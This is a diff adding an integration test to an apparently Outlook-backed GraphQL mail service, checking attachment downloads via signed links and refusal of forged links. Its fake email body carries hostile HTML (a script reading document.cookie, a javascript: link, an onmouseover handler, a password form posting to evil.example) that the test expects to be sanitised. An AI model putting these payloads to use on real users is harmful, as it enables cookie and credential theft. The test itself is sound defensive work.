@@ -41,6 +41,12 @@ const Thread = graphql(`
   }
 `);
 
+const MailWithAttachments = graphql(`
+  query OutlookAttachments($id: ID!) {
+    node(id: $id) { ... on Message { html text attachments { filename contentType sizeBytes url } } }
+  }
+`);
+
 const UnifiedInbox = graphql(`
   query OutlookUnifiedInbox($after: String) {
     messages(first: 3, after: $after) {
@@ -159,5 +165,40 @@ describe('Outlook mail to graphql-ws subscribers', () => {
       after = page.data!.messages.pageInfo.endCursor ?? null;
     }
     expect(pages).toEqual(everything.map((message) => message.id));
+  });
+
+  it('serves attachments through signed links streamed from Graph, and hostile HTML arrives sanitized', async () => {
+    const bytes = Buffer.from('%PDF-1.4 quarterly numbers');
+    const mail = fake.mail.deliver(alice.id, {
+      from: { address: 'mallory@evil.example' },
+      to: [{ address: alice.mail }],
+      subject: 'Invoice',
+      body: '<p onmouseover="steal()">Pay <a href="javascript:alert(1)">here</a><script>document.cookie</script><img src="cid:logo"></p><form action="https://evil.example/post"><input name="pw"></form>',
+      attachments: [
+        { name: 'invoice.pdf', contentType: 'application/pdf', contentBytes: bytes.toString('base64') },
+        { name: 'logo.png', contentType: 'image/png', contentBytes: Buffer.from('png-bytes').toString('base64'), isInline: true, contentId: 'logo' },
+      ],
+    });
+    const workspace = (await live.http('demo-alice', MailboxQuery)).data!.workspaces.find((candidate) => candidate.provider === 'OUTLOOK')!;
+    const page = await live.http('demo-alice', graphql(`query OutlookInboxIds($id: ID!) { node(id: $id) { ... on Channel { messages(first: 5) { nodes { id subject } } } } }`), { id: workspace.channels.nodes.find((channel) => channel.name === 'Inbox')!.id });
+    const id = (page.data!.node as { messages: { nodes: Array<{ id: string; subject: string | null }> } }).messages.nodes.find((message) => message.subject === 'Invoice')!.id;
+    const read = await live.http('demo-alice', MailWithAttachments, { id });
+    const node = read.data!.node as { html: string; text: string; attachments: Array<{ filename: string; contentType: string; sizeBytes: number; url: string }> };
+    expect(node.html).not.toMatch(/script|onmouseover|javascript:|<form|<input/i);
+    expect(node.text).toContain('Pay');
+    expect(node.attachments.map((attachment) => [attachment.filename, attachment.sizeBytes])).toEqual([['invoice.pdf', bytes.length], ['logo.png', 9]]);
+    const link = new URL(node.attachments[0].url);
+    expect(link.pathname).toMatch(/^\/files\/.+\/download$/);
+    fake.resetCalls();
+    const download = await fetch(`http://127.0.0.1:${live.port}${link.pathname}${link.search}`);
+    expect(download.status).toBe(200);
+    expect(download.headers.get('content-disposition')).toContain('invoice.pdf');
+    expect(Buffer.from(await download.arrayBuffer())).toEqual(bytes);
+    expect(fake.count('mail.attachment.get')).toBe(1);
+    // A tampered link is refused before Graph is asked.
+    const forged = await fetch(`http://127.0.0.1:${live.port}${link.pathname}?exp=${link.searchParams.get('exp')}&sig=forged`);
+    expect(forged.status).toBe(403);
+    expect(fake.count('mail.attachment.get')).toBe(1);
+    void mail;
   });
 });
